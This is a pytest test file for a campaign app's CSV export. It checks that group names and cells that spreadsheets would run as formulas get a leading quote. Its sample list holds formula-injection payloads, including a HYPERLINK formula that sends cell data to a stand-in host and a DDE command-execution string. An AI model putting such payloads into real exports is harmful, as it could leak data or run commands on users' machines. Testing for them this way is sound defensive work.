"""No spreadsheet the app offers runs typed text as a formula: group names and cells such as `=HYPERLINK(...)`,
`@...`, `+...`, `-...` (and tab or carriage return first) come out with a `'` in front."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tomllib
from pathlib import Path

import pytest

from campaign.spreadsheet import FORMULA_STARTS, csv_bytes, inert_cell
from campaign.workshops import WorkshopRepository
from ui.workshop_progress import progress_csv

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "@SUM(A1:A9)",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =cmd|' /C calc'!A0",
    "＝1+1",  # fullwidth equals: LibreOffice reads it as "=" in some locales
    "+33 6 12 34 56 78",  # a phone number is text too, and stays readable after the '
]
HARMLESS = ["Table 3", "", "a=b", "Lusaka team", "e-mail: x@y.org", "'already quoted", 5, -3.5, None]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_front(text: str) -> None:
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_and_numbers_are_left_as_they_are(value: object) -> None:
    assert inert_cell(value) == value


def test_a_csv_file_has_no_cell_that_starts_a_formula() -> None:
    data = csv_bytes(["Group", "Note"], [[text, text] for text in HOSTILE + [str(v) for v in HARMLESS]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Group", "Note"] and len(rows) == 1 + len(HOSTILE) + len(HARMLESS)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert [row[0] for row in rows[1 : 1 + len(HOSTILE)]] == ["'" + text for text in HOSTILE]


def test_the_dashboards_csv_makes_every_hostile_group_name_inert(repo, pack) -> None:
    workshops = WorkshopRepository(repo.store, repo)
    workshop, _ = workshops.create("Forum")
    names = [" ".join(text.split()) for text in HOSTILE]  # as stored: one line, single spaces
    for number, name in enumerate(names):
        workshops.join(workshop.join_code, name, visitor=f"laptop-{number}")
    rows = workshops.progress(workshops.load(workshop.id), pack)
    data = progress_csv(rows, pack, dt.datetime.now(dt.UTC))
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert table[0][0] == "Group" and table[0][-1] == "Last activity"
    assert [row[0] for row in table[1:]] == ["'" + name for name in names]
    assert not [cell for row in table for cell in row if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert table[1][1:3] == ["9%", "—"] and table[1][-2].endswith("%"), "the words the dashboard shows"


def test_the_dashboard_offers_its_own_csv_and_streamlits_table_download_is_off(app, repo) -> None:
    workshops = WorkshopRepository(repo.store, repo)
    workshop, token = workshops.create("Forum")
    workshops.join(workshop.join_code, HOSTILE[0])
    at = app(f=token)
    assert at.get("download_button")[0].proto.label == "Download the table (CSV)"
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True  # every st.dataframe: no "Download as CSV" of raw text
